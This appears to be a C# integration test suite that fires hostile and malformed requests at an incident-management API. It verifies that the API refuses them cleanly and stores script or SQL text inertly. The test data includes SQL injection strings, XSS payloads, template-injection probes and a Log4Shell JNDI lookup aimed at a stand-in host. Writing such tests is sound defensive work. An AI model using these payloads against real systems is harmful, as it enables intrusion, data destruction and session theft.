using System.Text.Json;
using Itsm.Infrastructure.Persistence;
using Itsm.IntegrationTests.Support;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Itsm.IntegrationTests.Security;

/// <summary>
/// Several hundred malformed and hostile requests against every write endpoint: never a 5xx; every refusal is a
/// 4xx problem document whose errors name the problem; and nothing changes (incident count, the target's ETag,
/// version, history and worklog, the API tokens).
/// </summary>
[TestFixture(DbProvider.Sqlite)]
[TestFixture(DbProvider.Postgres)]
public sealed class HostileInputTests(DbProvider provider)
{
    private static readonly int[] Refusals = [400, 404, 409, 412, 413, 415, 422];

    private static readonly FieldSpec[] CreateSpec =
    [
        new("shortDescription", FieldKind.Text, 1000, Required: true), new("description", FieldKind.Text, 8000),
        new("impact", FieldKind.Int, 3, 1), new("urgency", FieldKind.Int, 3, 1), new("category", FieldKind.Text, 60),
        new("assignmentGroupId", FieldKind.Guid), new("assigneeId", FieldKind.Text, 450), new("caller", FieldKind.Text, 256),
    ];
    private static readonly FieldSpec[] PatchSpec =
    [
        new("shortDescription", FieldKind.Text, 1000, Required: true, MayBeAbsent: true), new("description", FieldKind.Text, 8000),
        new("impact", FieldKind.Int, 3, 1), new("urgency", FieldKind.Int, 3, 1), new("category", FieldKind.Text, 60),
        new("assignmentGroupId", FieldKind.Guid), new("assigneeId", FieldKind.Text, 450), new("priorityOverride", FieldKind.Int, 4, 1),
        new("priorityOverrideReason", FieldKind.Text, 500), new("parentIncidentNumber", FieldKind.Text, 20),
    ];
    private static readonly FieldSpec[] TransitionSpec = [new("transition", FieldKind.Text, 60, Required: true), new("fields", FieldKind.Map)];
    private static readonly FieldSpec[] CommentSpec = [new("text", FieldKind.Text, 8000, Required: true), new("workNote", FieldKind.Bool)];
    private static readonly FieldSpec[] TokenSpec =
        [new("userName", FieldKind.Text, 256, Required: true), new("password", FieldKind.Text, 512, Required: true), new("name", FieldKind.Text, 200)];

    private const string ValidCreate = """{"shortDescription":"Hostile probe","description":"d","impact":2,"urgency":2,"category":"email"}""";
    private const string ValidPatch = """{"description":"patched","impact":1}""";
    private const string ValidTransition = """{"transition":"put-on-hold","fields":{"holdReason":"awaiting-vendor"}}""";
    private const string ValidComment = """{"text":"hello","workNote":false}""";
    private const string ValidToken = """{"userName":"no-such-user","password":"wrong-password-1","name":"probe"}""";

    private ItsmApp _app = null!;

    [OneTimeSetUp] public void Start() => _app = new ItsmApp(provider);
    [OneTimeTearDown] public void Stop() => _app.Dispose();

    [Test]
    public async Task LogIncident_WhenBodyIsHostile_RefusesWithProblemAndChangesNothing()
    {
        const string key = "hostile-create-key";
        var first = await _app.Api("agent").SendAsync(HttpMethod.Post, "/api/v1/incidents", ValidCreate, configure: r => r.Headers.Add("Idempotency-Key", key));
        Assert.That(first.Status, Is.EqualTo(201), first.ToString());
        var probes = Standard(ValidCreate, CreateSpec, seed: 11).Concat(
        [
            new Probe("Idempotency-Key of 201 chars", ValidCreate, "Idempotency-Key", headers: Header("Idempotency-Key", new string('k', 201))),
            new Probe("Idempotency-Key reused with another body", HostileBodies.With(ValidCreate, "description", "\"other\""), null, headers: Header("Idempotency-Key", key)),
            new Probe("category that does not exist", HostileBodies.With(ValidCreate, "category", "\"'; DROP TABLE incidents; --\""), "category"),
            new Probe("caller that does not exist", HostileBodies.With(ValidCreate, "caller", "\"' OR '1'='1\""), "caller"),
        ]);
        await AssertRefusedAsync("agent", HttpMethod.Post, "/api/v1/incidents", probes, target: null, expectAtLeast: 200);
    }

    [Test]
    public async Task UpdateIncident_WhenBodyOrHeadersAreHostile_RefusesWithProblemAndChangesNothing()
    {
        var number = await NewTargetAsync();
        var probes = Standard(ValidPatch, PatchSpec, seed: 22).Concat(
        [
            new Probe("parent is itself", HostileBodies.With(ValidPatch, "parentIncidentNumber", $"\"{number}\""), null),
            new Probe("parent that does not exist", HostileBodies.With(ValidPatch, "parentIncidentNumber", "\"INC9999999\""), "parentIncidentNumber"),
            new Probe("priority override without a reason", HostileBodies.With(ValidPatch, "priorityOverride", "2"), "priorityOverrideReason"),
            new Probe("unknown incident", ValidPatch, null, path: "/api/v1/incidents/INC0000000"),
            new Probe("SQL in the number", ValidPatch, null, path: "/api/v1/incidents/" + Uri.EscapeDataString("INC1' OR '1'='1")),
            new Probe("2000-character number", ValidPatch, null, path: "/api/v1/incidents/" + new string('9', 2000)),
        ]).Concat(IfMatchProbes(ValidPatch));
        await AssertRefusedAsync("agent", HttpMethod.Patch, $"/api/v1/incidents/{number}", probes, number, expectAtLeast: 200);
    }

    [Test]
    public async Task TransitionIncident_WhenBodyIsHostile_RefusesWithProblemAndChangesNothing()
    {
        var number = await NewTargetAsync();
        var probes = Standard(ValidTransition, TransitionSpec, seed: 33).Concat(
        [
            new Probe("unknown transition", """{"transition":"put_on_hold"}""", "transition"),
            new Probe("guarded transition (no assignee)", """{"transition":"resolve","fields":{"resolutionCode":"duplicate","resolutionNotes":"x"}}""", null),
            new Probe("transition from the wrong state", """{"transition":"close"}""", null),
            new Probe("unknown hold reason", """{"transition":"put-on-hold","fields":{"holdReason":"<script>alert(1)</script>"}}""", "holdReason"),
            new Probe("missing required field", """{"transition":"put-on-hold","fields":{}}""", "holdReason"),
            new Probe("null byte in a transition field", """{"transition":"cancel","fields":{"cancelReason":"dup\u0000licate"}}""", "cancelReason"),
            new Probe("escape sequence in a transition field", """{"transition":"cancel","fields":{"cancelReason":"dup\u001b[2Jlicate"}}""", "cancelReason"),
            new Probe("unknown incident", ValidTransition, null, path: "/api/v1/incidents/INC0000000/transitions"),
        ]).Concat(IfMatchProbes(ValidTransition));
        await AssertRefusedAsync("agent", HttpMethod.Post, $"/api/v1/incidents/{number}/transitions", probes, number, expectAtLeast: 100);
    }

    [Test]
    public async Task CommentOnIncident_WhenBodyIsHostile_RefusesWithProblemAndChangesNothing()
    {
        var number = await NewTargetAsync();
        var probes = Standard(ValidComment, CommentSpec, seed: 44).Append(
            new Probe("unknown incident", ValidComment, null, path: "/api/v1/incidents/INC0000000/comments"));
        await AssertRefusedAsync("agent", HttpMethod.Post, $"/api/v1/incidents/{number}/comments", probes, number, expectAtLeast: 100);
    }

    [Test]
    public async Task IssueToken_WhenBodyIsHostile_RefusesWithProblemAndIssuesNothing()
    {
        var probes = Standard(ValidToken, TokenSpec, seed: 55).Concat(
            new[] { "admin' --", "' OR '1'='1", "admin\" OR 1=1 --", "admin'; DROP TABLE \"AspNetUsers\"; --", "*", "%" }
                .Select(u => new Probe($"SQL-ish user name {u}", JsonSerializer.Serialize(new { userName = u, password = "x" }), null)));
        await AssertRefusedAsync(null, HttpMethod.Post, "/api/v1/auth/token", probes, target: null, expectAtLeast: 100, alsoAllowed: 401);
    }

    [Test]
    public async Task ListIncidents_WhenQueryIsHostile_Returns400NamingTheParameter()
    {
        (string Query, string Key)[] bad =
        [
            ("page=-1", "page"), ("page=0", "page"), ("page=abc", "page"), ("page=1.5", "page"), ("page=99999999999", "page"),
            ("pageSize=1000", "pageSize"), ("pageSize=0", "pageSize"), ("pageSize=-5", "pageSize"), ("pageSize=1e2", "pageSize"),
            ("sort=bogus", "sort"), ("sort=-bogus", "sort"), ("sort=number;DROP TABLE incidents", "sort"), ("state=bogus", "state"),
            ("state=new,bogus", "state"), ("priority=x", "priority"), ("priority=5", "priority"), ("priority=0", "priority"),
            ("priority=1,x", "priority"), ("queue=bogus", "queue"), ("assignmentGroupId=nope", "assignmentGroupId"),
            ("foo=1", "foo"), ("$filter=x", "$filter"), ("__proto__=1", "__proto__"), ("text=" + new string('t', 201), "text"),
        ];
        var before = await _app.IncidentTotalAsync();
        var failures = new List<string>();
        foreach (var (query, key) in bad)
        {
            var reply = await _app.Api("admin").SendAsync(HttpMethod.Get, "/api/v1/incidents?" + query, null);
            Check(new Probe(query, (string?)null, key), reply, [400], failures);
        }
        Assert.That(failures, Is.Empty, string.Join("\n", failures));
        Assert.That(await _app.IncidentTotalAsync(), Is.EqualTo(before));
    }

    [Test]
    public async Task ListIncidents_WhenTextOrIdsCarryInjection_Returns200WithNoMatches()
    {
        string[] queries =
        [
            "text=" + Uri.EscapeDataString("' OR '1'='1"), "text=%25", "text=_", "text=" + Uri.EscapeDataString("<script>alert(1)</script>"),
            "text=" + Uri.EscapeDataString("\\"), "assignee=" + Uri.EscapeDataString("' OR 1=1 --"), "requester=" + Uri.EscapeDataString("x' OR 'a'='a"),
        ];
        foreach (var query in queries)
        {
            var reply = await _app.Api("admin").SendAsync(HttpMethod.Get, "/api/v1/incidents?" + query, null);
            Assert.That(reply.Status, Is.EqualTo(200), $"{query}: {reply}");
            Assert.That(reply.Json.GetProperty("total").GetInt32(), Is.Zero, $"{query} must match literally, not as a pattern or SQL");
        }
    }

    [TestCase("page=2147483647&pageSize=100")]
    [TestCase("page=21474837&pageSize=100")]
    [TestCase("page=1000000&pageSize=100")]
    public async Task ListIncidents_WhenPageIsFarBeyondTheEnd_ReturnsEmptyPageOr400NotServerError(string query)
    {
        var reply = await _app.Api("admin").SendAsync(HttpMethod.Get, "/api/v1/incidents?" + query, null);
        Assert.That(reply.Status, Is.EqualTo(200).Or.EqualTo(400), reply.ToString());
        if (reply.Status == 200) Assert.That(reply.Json.GetProperty("items").GetArrayLength(), Is.Zero, reply.ToString());
        else Assert.That(reply.IsProblem, Is.True, reply.ToString());
    }

    [Test]
    public async Task LogAndComment_WhenTextHoldsScriptOrSql_StoresItVerbatimAndReturnsItEncoded()
    {
        string[] payloads =
        [
            "<script>alert('x')</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE \"Incidents\"; --", "Robert'); DROP TABLE tickets;--",
            "1' OR '1'='1", "{{7*7}} ${7*7} <%= 7*7 %>", "${jndi:ldap://evil.example/a}", "</textarea><svg/onload=alert(1)>",
            "Ünïcødé ✓ 🎉 \u202Eright-to-left", "line1\nline2\ttab\r\nend", "javascript:alert(document.cookie)",
        ];
        var before = await _app.IncidentTotalAsync();
        var browser = await _app.SignInBrowserAsync("agent");
        foreach (var text in payloads)
        {
            var created = await _app.Api("agent").SendAsync(HttpMethod.Post, "/api/v1/incidents",
                JsonSerializer.Serialize(new { shortDescription = text, description = text }));
            Assert.That(created.Status, Is.EqualTo(201), created.ToString());
            var number = created.Json.GetProperty("number").GetString()!;
            var comment = await _app.Api("agent").SendAsync(HttpMethod.Post, $"/api/v1/incidents/{number}/comments", JsonSerializer.Serialize(new { text = "c " + text }));
            Assert.That(comment.Status, Is.EqualTo(201), comment.ToString());

            var read = await _app.Api("requester").SendAsync(HttpMethod.Get, "/api/v1/incidents/" + number, null);
            var agentRead = await _app.Api("agent").SendAsync(HttpMethod.Get, "/api/v1/incidents/" + number, null);
            var comments = await _app.Api("agent").SendAsync(HttpMethod.Get, $"/api/v1/incidents/{number}/comments", null);
            Assert.That(read.Status, Is.EqualTo(404), "the requester does not see the agent's incident");
            Assert.That(agentRead.Json.GetProperty("shortDescription").GetString(), Is.EqualTo(text));
            Assert.That(agentRead.Json.GetProperty("description").GetString(), Is.EqualTo(text));
            Assert.That(comments.Json.EnumerateArray().Single().GetProperty("text").GetString(), Is.EqualTo("c " + text));
            foreach (var reply in new[] { created, agentRead, comments })
            {
                // JSON, never sniffed as HTML: markup in a JSON string is inert (ASP.NET Core does not \u-escape '<').
                // That the values above parse back verbatim proves quotes, backslashes and line breaks were escaped.
                Assert.That(reply.MediaType, Is.EqualTo("application/json"));
                Assert.That(reply.Response.Headers.GetValues("X-Content-Type-Options"), Does.Contain("nosniff"));
            }
            // The same text in the agent's incident page is HTML-encoded, so it never runs.
            var page = await browser.GetAsync($"/Incidents/{number}");
            var html = await page.Content.ReadAsStringAsync();
            Assert.That((int)page.StatusCode, Is.EqualTo(200), html);
            Assert.That(html, Does.Contain(number));
            foreach (var tag in new[] { "<script>alert", "<img src=x", "<svg/onload" })
                Assert.That(html, Does.Not.Contain(tag), $"the page renders '{text}' encoded");
        }
        Assert.That(await _app.IncidentTotalAsync(), Is.EqualTo(before + payloads.Length), "every payload made exactly one incident; no table was dropped");
    }

    // ---- helpers ----

    private static IEnumerable<Probe> Standard(string valid, FieldSpec[] spec, int seed) =>
        HostileBodies.Structural(valid).Concat(HostileBodies.Fields(valid, spec)).Concat(HostileBodies.Fuzz(valid, spec, seed, 60));

    private static IEnumerable<Probe> IfMatchProbes(string valid) =>
        new[] { "abc", "*", "\"\"", "W/\"x\"", "\"-1\"", "\"1.5\"", "\"99999999999\"", "\"1\", \"2\"" }
            .Select(v => new Probe($"If-Match: {v}", valid, "If-Match", headers: Header("If-Match", v)))
            .Concat(new[] { "\"0\"", "\"999\"", "W/\"999\"" }.Select(v => new Probe($"stale If-Match: {v}", valid, null, headers: Header("If-Match", v))));

    private static Dictionary<string, string> Header(string name, string value) => new() { [name] = value };

    private async Task<string> NewTargetAsync() =>
        await _app.LogIncidentAsync("agent", new { shortDescription = "Hostile target " + Guid.NewGuid().ToString("N")[..8], impact = 2, urgency = 2 });

    private async Task<int> TokenCountAsync()
    {
        using var scope = _app.Services.CreateScope();
        return await scope.ServiceProvider.GetRequiredService<ItsmDbContext>().ApiTokens.CountAsync();
    }

    private async Task AssertRefusedAsync(string? user, HttpMethod method, string path, IEnumerable<Probe> probes, string? target,
        int expectAtLeast, int? alsoAllowed = null)
    {
        var client = _app.Api(user);
        var before = await _app.StateAsync(target);
        var tokensBefore = await TokenCountAsync();
        var allowed = alsoAllowed is { } extra ? [.. Refusals, extra] : Refusals;
        var failures = new List<string>();
        var sent = 0;
        foreach (var probe in probes)
        {
            using var request = new HttpRequestMessage(method, probe.Path ?? path);
            if (probe.Body is not null)
            {
                request.Content = new ByteArrayContent(probe.Body);
                if (probe.ContentType is not null) request.Content.Headers.TryAddWithoutValidation("Content-Type", probe.ContentType);
            }
            foreach (var (name, value) in probe.Headers ?? new Dictionary<string, string>())
                request.Headers.TryAddWithoutValidation(name, value);
            Reply reply;
            try { reply = await client.SendRawAsync(request); }
            catch (Exception e) when (e is not AssertionException) { failures.Add($"{probe.Name}: the server threw {e.GetType().Name}: {e.Message}"); continue; }
            Check(probe, reply, allowed, failures);
            sent++;
        }
        Assert.That(sent, Is.GreaterThanOrEqualTo(expectAtLeast), "probes sent");
        Assert.That(failures, Is.Empty, $"{failures.Count} of {sent} hostile requests were mishandled:\n" + string.Join("\n", failures));
        Assert.That(await _app.StateAsync(target), Is.EqualTo(before), "refused requests changed the data");
        Assert.That(await TokenCountAsync(), Is.EqualTo(tokensBefore), "refused requests issued tokens");
    }

    private static void Check(Probe probe, Reply reply, int[] allowed, List<string> failures)
    {
        if (reply.Status >= 500) { failures.Add($"{probe.Name}: server error {reply}"); return; }
        if (!allowed.Contains(reply.Status)) { failures.Add($"{probe.Name}: not refused, got {reply}"); return; }
        if (probe.Status is { } status && reply.Status != status) { failures.Add($"{probe.Name}: expected {status}, got {reply}"); return; }
        if (!reply.IsProblem) { failures.Add($"{probe.Name}: {reply.Status} is not application/problem+json ({reply.MediaType})"); return; }
        if (reply.Status != 400) return;
        var problem = reply.Json;
        var words = new List<string>();
        if (problem.TryGetProperty("detail", out var detail) && detail.ValueKind == JsonValueKind.String) words.Add(detail.GetString()!);
        if (problem.TryGetProperty("errors", out var errors) && errors.ValueKind == JsonValueKind.Object)
            foreach (var e in errors.EnumerateObject())
                words.AddRange([e.Name, .. e.Value.EnumerateArray().Select(m => m.GetString() ?? "")]);
        if (words.Count == 0) failures.Add($"{probe.Name}: a 400 without errors or detail: {reply}");
        else if (probe.Needle is { } needle && !words.Any(w => w.Contains(needle, StringComparison.OrdinalIgnoreCase)))
            failures.Add($"{probe.Name}: the error does not name '{needle}': {reply}");
    }
}
